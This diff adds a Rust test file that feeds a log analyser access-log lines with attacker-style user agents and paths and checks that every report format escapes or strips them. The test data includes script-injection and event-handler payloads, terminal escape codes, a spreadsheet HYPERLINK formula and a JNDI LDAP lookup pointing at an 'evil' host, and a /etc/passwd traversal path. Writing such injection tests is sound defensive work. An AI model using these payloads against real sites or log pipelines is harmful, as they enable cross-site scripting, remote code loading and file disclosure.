@@ -1,1 +1,146 @@
-//! todo
+//! What visitors write into a log can't break out of any output.
+
+use quick_xml::Reader;
+use quick_xml::events::Event;
+
+use crate::program::{Site, line};
+
+/// User agents and paths as attackers send them; each is named Unknown AI or becomes a term.
+const USER_AGENTS: [&str; 5] = [
+    "</style><script>alert(1)</script> EvilBot/1.0",
+    "\\x1b[2J\\x1b]0;owned\\x07 EvilBot/1.0",
+    "\\\" onmouseover=\\\"alert(1)\\\" EvilBot/1.0",
+    "=HYPERLINK(\\\"http://evil\\\") EvilBot/1.0",
+    "${jndi:ldap://evil} EvilBot/1.0",
+];
+
+const PATHS: [&str; 7] = [
+    "/t/<script>alert(1)<%2fscript>",
+    "/t/%22onload=%22alert(1)",
+    "/t/=1+1",
+    "/t/..%2f..%2f..%2fetc%2fpasswd",
+    "/t/%e2%80%aegnp.exe",
+    "/t/]]>&lt;x",
+    "/t/|a|`b`*c*",
+];
+
+fn attacked() -> Site {
+    // A title is the owner's own, but is shown as it is written all the same.
+    let site = Site::new(
+        "[site]\nname = \"<b>&\\\"site\\\"\"\ncaption = \"<i>&</i>\"\n[[logs]]\npaths = [\"access.log\"]\n\
+         [terms]\npattern = '^/t/(?<term>.+)$'\n\
+         [[request_types]]\nname = \"<u>type</u>\"\npath = 'passwd'\n\
+         [[agents]]\nname = \"<img src=x onerror=alert(1)>\"\ntokens = [\"GPTBot\"]\n\
+         [reports]\nformats = [\"html\", \"svg\", \"json\", \"csv\", \"md\", \"text\", \"png\"]\n",
+    );
+    let at = "20/May/2026:10:00:00 +0000";
+    let mut text = String::new();
+    for path in PATHS {
+        text += &line(at, path, 200, "GPTBot/1.2");
+        for user_agent in USER_AGENTS {
+            text += &line(at, path, 200, user_agent);
+        }
+    }
+    site.write("access.log", text);
+    site.succeed(&["nightly", "--as-of", "2026-05-20"]);
+    site
+}
+
+fn published(site: &Site, ending: &str) -> Vec<(String, String)> {
+    let mut files = Vec::new();
+    for folder in ["reports", "reports/terms"] {
+        for entry in std::fs::read_dir(site.path(folder)).unwrap() {
+            let path = entry.unwrap().path();
+            if path.extension().is_some_and(|found| found == ending) {
+                let text = std::fs::read_to_string(&path).unwrap();
+                files.push((path.display().to_string(), text));
+            }
+        }
+    }
+    assert!(files.len() > PATHS.len(), "{ending}: {}", files.len());
+    files
+}
+
+#[test]
+fn markup_has_only_elements_of_our_own() {
+    let site = attacked();
+    let known = [
+        "section", "style", "header", "h2", "h3", "p", "small", "ol", "ul", "li", "span", "b",
+        "svg", "rect", "title", "table", "tr", "th", "td", "text", "a", "html", "head", "body",
+        "meta",
+    ];
+    for (name, text) in published(&site, "html").into_iter().chain(published(&site, "svg")) {
+        assert!(text.is_ascii(), "{name}");
+        // The page's <meta> tags are HTML and not XML; all else must be well-formed.
+        let text = text
+            .replace("<meta charset=\"utf-8\">", "")
+            .replace("<meta name=\"viewport\" content=\"width=device-width\">", "");
+        let mut reader = Reader::from_str(&text);
+        loop {
+            let event =
+                reader.read_event().unwrap_or_else(|error| panic!("{name}: {error}\n{text}"));
+            let tag = match event {
+                Event::Start(tag) | Event::Empty(tag) => tag,
+                Event::Eof => break,
+                _ => continue,
+            };
+            let element = tag.local_name();
+            assert!(known.contains(&element.as_ref()), "{name}: <{}>", element.as_ref());
+            for attribute in tag.attributes() {
+                let attribute = attribute.unwrap();
+                let key = attribute.key.as_ref();
+                assert!(!key.starts_with("on"), "{name}: {key}");
+                if key == "href" {
+                    assert!(attribute.value.starts_with("terms/"), "{name}: {}", attribute.value);
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn text_and_tables_control_nothing() {
+    let site = attacked();
+    for ending in ["text", "md", "csv", "json"] {
+        for (name, text) in published(&site, ending) {
+            let acts =
+                |c: char| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c);
+            assert!(!text.contains(acts), "{name}: {text}");
+            if ending == "csv" {
+                for cell in text.lines().flat_map(|line| line.split(',')) {
+                    let cell = cell.trim_start_matches('"');
+                    assert!(!cell.starts_with(['=', '+', '@']), "{name}: {cell}");
+                }
+            }
+        }
+    }
+    let said = site.succeed(&["parse", "access.log"]);
+    assert!(!said.contains('\u{1b}'), "{said}");
+}
+
+#[test]
+fn no_file_is_written_elsewhere() {
+    let site = attacked();
+    let mut names: Vec<String> = std::fs::read_dir(site.path(""))
+        .unwrap()
+        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
+        .collect();
+    names.sort();
+    names.retain(|name| !name.starts_with("guestbook.db"));
+    assert_eq!(names, ["access.log", "config.toml", "reports"]);
+}
+
+#[test]
+fn attacks_are_counted_like_everything_else() {
+    let site = attacked();
+    let report = site.term("../../../etc/passwd", "2026-05-20");
+    assert_eq!(report["total_pings"], 6);
+    assert_eq!(report["request_types"][0]["type"], "<u>type</u>");
+    let families: Vec<&str> = report["families"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|row| row["family"].as_str().unwrap())
+        .collect();
+    assert_eq!(families, ["Unknown AI", "<img src=x onerror=alert(1)>"]);
+}
